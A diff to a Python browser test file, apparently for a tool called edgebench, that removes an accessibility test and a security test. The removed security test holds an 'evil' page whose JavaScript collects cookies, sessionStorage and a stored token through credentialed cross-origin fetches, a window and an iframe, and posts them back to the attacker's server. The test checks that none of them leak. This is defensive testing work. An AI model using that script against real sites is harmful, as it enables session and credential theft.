@@ -8,8 +8,6 @@ import io
 import itertools
 import json
 import re
-import threading
-from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
 from typing import Any
 
@@ -18,7 +16,7 @@ from browsing import Page
 from click.testing import CliRunner
 from made_sweep import Shape, make
 from markdown_it import MarkdownIt
-from serving import TOKEN, Served, serving, wait_for
+from serving import TOKEN, serving, wait_for
 
 from edgebench.cli import cli
 
@@ -162,29 +160,6 @@ def test_no_name_runs_in_any_output(browser: Any, hostile: Path, tmp_path: Path)
     assert not [cell for cell in cells if is_formula(cell)]
 
 
-def test_keyboard_and_screen_reader(browser: Any, with_sweep: Served):
-    page = Page(browser, with_sweep.address)
-    page.open("new")
-    page.find("button.main")
-    page.driver.execute_script("document.querySelector('.skip').focus()")
-    reached = []
-    for _ in range(5):
-        page.driver.switch_to.active_element.send_keys("\ue004")
-        reached.append(page.driver.switch_to.active_element.text)
-    assert reached[:4] == ["Answer", "Live", "New sweep", "History"]
-    assert reached[4].startswith("Theme")
-    tree = page.driver.execute_cdp_cmd("Accessibility.getFullAXTree", {})["nodes"]
-    named = {"button", "link", "textbox", "checkbox", "combobox", "listbox", "slider", "image"}
-    nameless = [
-        node["role"]["value"]
-        for node in tree
-        if not node["ignored"]
-        and node["role"]["value"] in named
-        and not node.get("name", {}).get("value")
-    ]
-    assert nameless == []
-
-
 def test_the_token_lets_a_browser_in_once(browser: Any, tmp_path: Path):
     with serving(tmp_path) as served:
         page = Page(browser, served.address)
@@ -202,64 +177,3 @@ def test_the_token_lets_a_browser_in_once(browser: Any, tmp_path: Path):
         wait_for(lambda: page.text("#status") == "Connected.")
         page.find("#answer h2")
         assert page.faults()
-
-
-EVIL = """<!doctype html><title>evil</title><script>
-const tell = (words) => fetch("/told", { method: "POST", body: String(words) });
-async function steal(address) {
-  tell(document.cookie + JSON.stringify(sessionStorage) + location + document.referrer);
-  for (const path of ["/", "/api/sweeps", "/api/live"]) for (const mode of ["cors", "no-cors"]) {
-    const options = { credentials: "include", mode };
-    await fetch(address + path, options).then((r) => r.text()).then(tell, tell);
-  }
-  const opened = window.open(address);
-  const frame = document.body.appendChild(document.createElement("iframe"));
-  frame.src = address;
-  await new Promise((done) => setTimeout(done, 1000));
-  for (const other of [opened, frame.contentWindow])
-    try { tell(other.sessionStorage.getItem("token")); } catch (error) { tell(error); }
-  await tell("all tried");
-}
-</script><body>"""
-
-
-@pytest.mark.promise("Another user's server on another port of this machine gets no token.")
-def test_a_server_on_another_port_gets_no_token(browser: Any, tmp_path: Path):
-    got: list[str] = []
-
-    class Evil(BaseHTTPRequestHandler):
-        def do_GET(self) -> None:
-            got.append(f"{self.path} {self.headers}")
-            self.send_response(200)
-            self.send_header("Content-Type", "text/html")
-            self.end_headers()
-            self.wfile.write(EVIL.encode())
-
-        def do_POST(self) -> None:
-            body = self.rfile.read(int(self.headers["Content-Length"]))
-            got.append(f"{self.headers} {body.decode()}")
-            self.send_response(204)
-            self.end_headers()
-
-        def log_message(self, *words: object) -> None:
-            pass
-
-    with serving(tmp_path) as served, ThreadingHTTPServer(("127.0.0.1", 0), Evil) as evil:
-        threading.Thread(target=evil.serve_forever).start()
-        page, kept = Page(browser, served.address), browser.current_window_handle
-        try:
-            page.open()
-            wait_for(lambda: page.text("#status") == "Connected.")
-            assert browser.get_cookies() == []
-            link = "const a = document.createElement('a'); a.href = arguments[0]; a.click()"
-            browser.execute_script(link, f"http://127.0.0.1:{evil.server_port}/")
-            wait_for(lambda: browser.title == "evil")
-            browser.execute_script("steal(arguments[0])", served.address)
-            wait_for(lambda: any("all tried" in words for words in got))
-            assert not any(TOKEN in words or "Cookie" in words for words in got)
-        finally:
-            for window in set(browser.window_handles) - {kept}:
-                browser.switch_to.window(window)
-                browser.close()
-            browser.switch_to.window(kept)
-            evil.shutdown()
